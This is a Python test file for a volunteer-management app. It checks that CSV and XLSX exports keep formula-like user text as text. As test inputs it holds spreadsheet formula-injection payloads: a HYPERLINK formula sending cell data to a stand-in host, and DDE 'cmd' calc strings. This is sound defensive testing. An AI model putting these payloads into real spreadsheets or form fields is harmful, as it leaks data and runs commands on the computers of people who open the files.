"""Safe exports (issue 11): user text that a spreadsheet would run as a formula stays text in
every CSV and XLSX file; numbers stay numbers. All exports write through app/exports.py."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.exports import safe_cell
from app.extensions import db
from app.network import services as network
from app.network.models import PARTNER_TYPES
from app.statistics import export
from app.statistics.tables import Table
from app.volunteers.models import ExpenseEntry
from tests.factories import today
from tests.volunteers.helpers import running_case, user_id


def month() -> str:
    return today().strftime("%Y-%m")


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Beleg")'
NOTES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1dA1", "  =1+1"]


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))


@pytest.mark.parametrize(("value", "expected"), [
    (HYPERLINK, "'" + HYPERLINK), ("+49 170 1234567", "+49 170 1234567"), ("-3,5", "-3,5"),
    ("-", "'-"), ("a=b", "a=b"), ("@x", "'@x"), ("\uff0b1+A1", "'\uff0b1+A1"), (-3, -3), (2.5, 2.5), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_expense_note_in_the_monthly_statement_stays_text(app, login_as):
    case_id = running_case(login_as)
    mira, k201 = login_as("ehrenamt1"), login_as("k201")
    for note in NOTES:
        # Equal entries apart from the note: the volunteer confirms past the duplicate warning.
        form = {"datum": today().isoformat(), "stunden": "2", "kilometer": "", "auslagen": "", "notiz": note,
                "trotzdem": "1"}
        assert mira.post(f"/ehrenamt/einsaetze/{case_id}/aufwand", data=form).status_code == 302
    with app.app_context():
        ids = db.session.scalars(select(ExpenseEntry.id).order_by(ExpenseEntry.id)).all()
    for entry_id in ids:
        assert k201.post(f"/aufwand/{entry_id}/genehmigen").status_code == 302

    response = k201.get(f"/aufwand/abrechnung?ehrenamtliche={user_id(app, 'ehrenamt1')}&monat={month()}&format=csv")
    rows = _csv(response)[1:-1]
    assert len(rows) == len(NOTES)
    stored = {note.strip() for note in NOTES}  # the form strips surrounding whitespace
    notes = [row[-1] for row in rows]
    for cell in notes:
        assert cell.startswith("'") and cell[1:] in stored, cell
    assert all(row[4] == "2" and row[7] == "16,00" for row in rows)  # numbers stay numbers


def test_partner_name_in_the_network_map_csv_stays_text(app, login_as):
    name = "=cmd|' /C calc'!A0"
    with app.app_context():
        from app.auth.models import User

        org = db.session.scalar(select(User.organisation_id).where(User.username == "k201"))
        network.save_partner(None, org, name=name, typ=PARTNER_TYPES[0], intensitaet=2, wichtigkeit=3)
        db.session.commit()
    rows = _csv(login_as("k201").get(f"/netzwerk/karte/{today().year}.csv"))
    [row] = [r for r in rows[1:] if name in r[1]]
    assert row[1] == "'" + name
    assert row[0] == str(today().year) and row[3] == "2"


def test_statistics_csv_and_xlsx_keep_formula_text_as_text(app):
    tables = [Table(key="t", title="=Titel", columns=["Team", "Anzahl"],
                    rows=[[HYPERLINK, 3], ["@Team", 4], ["ASD", -1]], note="+Hinweis")]
    with app.test_request_context():
        rows = list(csv.reader(io.StringIO(export.to_csv(tables).decode("utf-8-sig")), delimiter=";"))
        book_bytes = export.to_xlsx(tables)
    assert rows[0] == ["'=Titel"]
    assert rows[2] == ["'" + HYPERLINK, "3"] and rows[3] == ["'@Team", "4"] and rows[4] == ["ASD", "-1"]

    sheet_xml = zipfile.ZipFile(io.BytesIO(book_bytes)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula at all in the file
    sheet = load_workbook(io.BytesIO(book_bytes)).active
    assert sheet["A1"].value == "=Titel" and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert sheet["A4"].value == HYPERLINK and sheet["A4"].data_type == "s" and sheet["A4"].quotePrefix
    assert sheet["B4"].value == 3 and sheet["B4"].data_type == "n"
    assert sheet["B6"].value == -1 and sheet["B6"].data_type == "n"


def test_every_export_writes_through_the_one_helper():
    """No module but app/exports.py creates a csv writer or puts rows into a worksheet."""
    root = Path(__file__).resolve().parents[2] / "app"
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\b(sheet|ws|worksheet)\.append\((?!\[\]\))"
                         r"|\b(sheet|ws|worksheet)\[[^\]]+\]\s*=(?!=)|\.cell\(.*value=")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.name != "exports.py" and pattern.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
